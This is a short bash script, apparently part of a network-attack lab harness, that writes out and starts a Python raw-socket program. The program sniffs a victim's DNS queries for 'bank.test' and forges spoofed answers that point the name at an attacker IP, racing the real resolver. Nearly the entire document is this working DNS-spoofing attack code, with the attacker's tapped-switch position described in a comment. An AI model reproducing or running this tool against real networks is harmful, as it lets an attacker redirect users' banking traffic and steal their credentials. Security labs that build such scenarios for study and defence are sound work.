# shellcheck shell=bash
# Somebody who can see the victim's frames (a tapped switch) answers questions for bank.test before the resolver; no ARP, no route changes.
start() { cat >"$S/run/race.py" <<'P'
import socket, struct, sys
def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))  # all: the bridge takes the rest away
s.bind((sys.argv[1], 3))
while True:
    frame, where = s.recvfrom(2048)
    if where[2] == socket.PACKET_OUTGOING or frame[12:14] != b"\x08\0" or frame[23] != 17 or frame[36:38] != b"\0\x35":
        continue
    dns = frame[42:]
    if not dns[12:].startswith(b"\4bank\4test\0\0\1"):
        continue
    answer = dns[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + dns[12:27] + b"\xc0\x0c\0\1\0\1\0\0\0\x1e\0\4" + socket.inet_aton(sys.argv[2])
    udp = struct.pack("!HHHH", 53, struct.unpack("!H", frame[34:36])[0], 8 + len(answer), 0) + answer
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 7, 0, 64, 17, 0, frame[30:34], frame[26:30])
    s.send(frame[6:12] + frame[:6] + b"\x08\0" + head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp)
P
  sbg sw race python3 "$S/run/race.py" p-victim $ATT_IP; }
